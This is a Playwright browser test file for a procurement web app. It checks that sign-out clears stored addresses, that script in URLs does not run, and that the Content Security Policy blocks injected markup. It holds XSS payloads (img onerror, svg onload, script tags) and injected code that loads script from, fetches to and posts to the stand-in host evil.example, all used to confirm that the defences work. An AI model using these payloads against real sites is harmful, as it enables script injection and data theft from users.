"""What a browser keeps, what stands in an address, and what the policy does with markup that did get into a page.

Markup in what people write: `test_attack_browser_every_text.py`.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from api import Session
from playwright.async_api import expect
from test_browser_every_page import settled

from infra.local.demo.story import day_in, line_of
from infra.local.instance import Instance

pytestmark = pytest.mark.browser
RUNS = "window.__ran=(window.__ran||0)+1"
SCRIPT = f"<img src=x onerror={RUNS}>"
REQUISITIONS = "/v1/procurement/purchase-requisitions"


async def test_attack_by_the_next_person_at_the_same_browser(window: Any, requester: Session) -> None:
    """What somebody looked at is not kept in the browser after signing out."""
    body = {
        "title": SCRIPT, "currency": "CNY", "needDate": day_in(20), "deliveryPlace": "上海",
        "lines": [line_of({"item": "2002-0004", "quantity": "10"})],
    }  # fmt: skip
    written = await requester.call("POST", REQUISITIONS, body)
    address = f"{REQUISITIONS.removeprefix('/v1')}/{written['id']}"
    made = await window("requester")
    await made.go(address)
    await settled(made.page)
    await expect(made.page.get_by_text(SCRIPT).first).to_be_visible()
    assert address in await kept(made)
    made.expected.add(401)
    await made.page.get_by_role("banner").get_by_role("button", name=re.compile("沈佳怡")).click()
    await made.page.get_by_text(made.screen.t("frame.signOut"), exact=True).click()
    await expect(made.page.locator("#username")).to_be_visible()
    assert address not in await kept(made)


async def kept(made: Any) -> str:
    """Everything in the browser's storage."""
    state = await made.context.storage_state()
    return " ".join(entry["value"] for origin in state["origins"] for entry in origin["localStorage"])


async def test_attack_script_in_an_address(window: Any, instance: Instance) -> None:
    """What stands in the address of a page is not run and leads nowhere else."""
    made = await window("requester")
    made.expected |= {400, 403, 404}
    for path in (
        f"/?company=<img src=x onerror={RUNS}>", f"/procurement/purchase-requisitions?search=<svg/onload={RUNS}>",
        f"/procurement/purchase-requisitions/<script>{RUNS}</script>", f"/#<img src=x onerror={RUNS}>",
        f"/procurement/purchase-requisitions?filter=%22><script>{RUNS}</script>",
    ):  # fmt: skip
        await made.page.goto(instance.url + path)
        await expect(made.page.locator("#root")).not_to_be_empty()
        assert await made.page.evaluate("window.__ran") is None, path
        assert made.page.url.startswith(instance.url), made.page.url


async def test_attack_injected_script_is_stopped_by_the_policy(window: Any, instance: Instance) -> None:
    """Were markup ever to become part of a page, the policy still would not run it, nor send anything away."""
    made = await window("requester")
    found = await made.page.evaluate(
        """async runs => {
            const stopped = [];
            document.addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective));
            const box = document.createElement('div');
            box.innerHTML = `<img src=x onerror="${runs}"><svg onload="${runs}"></svg><base href="https://evil.example/">
                <form action="https://evil.example/"></form>`;
            document.body.append(box);
            const script = document.createElement('script');
            script.textContent = runs;
            document.body.append(script);
            const far = document.createElement('script');
            far.src = 'https://evil.example/x.js';
            document.body.append(far);
            const sent = await fetch('https://evil.example/').then(() => 'sent', () => 'stopped');
            await new Promise(done => setTimeout(done, 500));
            return {ran: window.__ran ?? 0, stopped, sent, base: document.baseURI};
        }""",
        RUNS,
    )
    made.faults.clear()  # the console tells each of them
    assert found["ran"] == 0
    assert {"script-src-elem", "script-src-attr", "connect-src", "base-uri"} <= set(found["stopped"])
    assert found["sent"] == "stopped"
    assert found["base"].startswith(instance.url)
